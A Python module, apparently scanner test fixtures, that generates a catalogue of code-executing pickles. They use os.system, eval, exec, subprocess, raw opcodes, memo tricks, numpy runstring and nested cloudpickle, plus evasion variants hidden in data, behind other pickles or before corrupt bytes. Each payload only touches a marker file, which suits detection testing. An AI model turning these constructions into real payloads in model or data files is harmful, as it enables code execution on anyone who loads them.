"""Pickles that run something: each touches a marker file, written in every way in which an unpickler can be made to."""

import os
import pickle
import subprocess
from collections.abc import Callable
from typing import Any


class Calls:
    """Pickles as a call of the function with the arguments."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


def text(value: str) -> bytes:
    """Return the opcodes that push a text."""
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def payloads(marker: str) -> dict[str, bytes]:
    """Return pickles by the name of their trick; loading any of them touches the marker."""
    command = f"touch {marker}"
    source = f"open({marker!r}, 'w').close()"
    quoted = command.encode()
    calls = Calls(os.system, command)
    return {
        **{f"protocol {p}": pickle.dumps(calls, p) for p in range(6)},
        "protocol 4 without PROTO": pickle.dumps(calls, 4)[2:],
        "protocol 2 without PROTO": pickle.dumps(calls, 2)[2:],
        "INST": b"(S'" + quoted + b"'\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + text(command) + b"o.",
        "names out of the memo": text("system")
        + b"q\x010"
        + text("os")
        + b"q\x020h\x02h\x01\x93"
        + text(command)
        + b"\x85R.",
        "BUILD": b"ccollections\nOrderedDict\n)R}" + text("__setstate__") + b"cos\nsystem\nsb" + text(command) + b"b.",
        "eval": pickle.dumps(Calls(eval, source)),
        "exec": pickle.dumps(Calls(exec, source), 0),
        "Popen": pickle.dumps(Calls(subprocess.call, ["touch", marker])),
        "in plain data": pickle.dumps({"a": [1, {"b": calls}], "c": bytes(3000)}),
        "before damage": pickle.dumps(calls)[:-1] + b"\xff\xff",
        "before the end is missing": pickle.dumps(calls, 2)[:-1],
        "behind another pickle": pickle.dumps({"step": 1}) + pickle.dumps(calls),
        "behind nine others": pickle.dumps(1) * 9 + pickle.dumps(calls, 0),
        "before raw bytes": pickle.dumps(calls) + bytes(range(256)) * 20,
        "a pickle in a pickle": pickle.dumps(Calls(pickle.loads, pickle.dumps(calls))),
        "dotted numpy": b"\x80\x04" + text("numpy") + text("testing.runstring") + b"\x93" + text(source) + b"}\x86R.",
        "dotted cloudpickle": b"\x80\x04"
        + text("stable_baselines3.common.vec_env.base_vec_env")
        + text("cloudpickle.loads")
        + b"\x93B"
        + len(pickle.dumps(calls)).to_bytes(4, "little")
        + pickle.dumps(calls)
        + b"\x85R.",
    }


MARKED = ("protocol 2", "protocol 4", "eval", "in plain data")
"""A few of them that torch and joblib load as they are."""
